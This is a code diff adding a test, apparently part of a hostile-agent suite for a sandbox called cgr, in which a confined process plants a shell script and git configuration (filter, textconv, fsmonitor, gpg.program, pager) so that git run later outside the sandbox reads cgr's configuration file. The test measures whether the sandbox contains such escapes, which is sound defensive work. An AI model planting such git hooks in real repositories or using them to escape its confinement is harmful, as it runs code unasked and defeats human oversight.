@@ -187,6 +187,25 @@ def attack_commit() -> None:
     record("commit", done.returncode == 0, done.stderr.strip()[:300] or "committed")
 
 
+def attack_git_config() -> None:
+    """Commands for cgr's own git (unconfined, after the agent) to run: each reads cgr's
+    configuration into ``git-escape.txt`` in the state directory. Confined, the same read
+    fails, so anything in that file came from outside the sandbox."""
+    config, out = SPEC["read"]["config.toml"], STATE / "git-escape.txt"
+    script = Path(".git/escape.sh")
+    script.write_text(f"#!/bin/sh\ncat '{config}' >> '{out}' 2>/dev/null\ncat\n")
+    script.chmod(0o755)
+    evil = str(script.resolve())
+    settings = {"filter.spy.clean": evil, "filter.spy.smudge": "cat",
+                "filter.spy.required": "true", "diff.spy.textconv": evil,
+                "core.fsmonitor": evil, "commit.gpgSign": "true", "gpg.program": evil,
+                "core.pager": evil}  # fmt: skip
+    failed = [k for k, v in settings.items() if git("config", k, v).returncode != 0]
+    Path(".git/info").mkdir(exist_ok=True)
+    Path(".git/info/attributes").write_text("* filter=spy diff=spy\n")
+    record("git_config", not failed, f"planted {len(settings) - len(failed)} settings")
+
+
 def attack_hang() -> None:
     record("hang", True, "sleeping")
     (STATE / "hostile.json").write_text(json.dumps(results, indent=1))
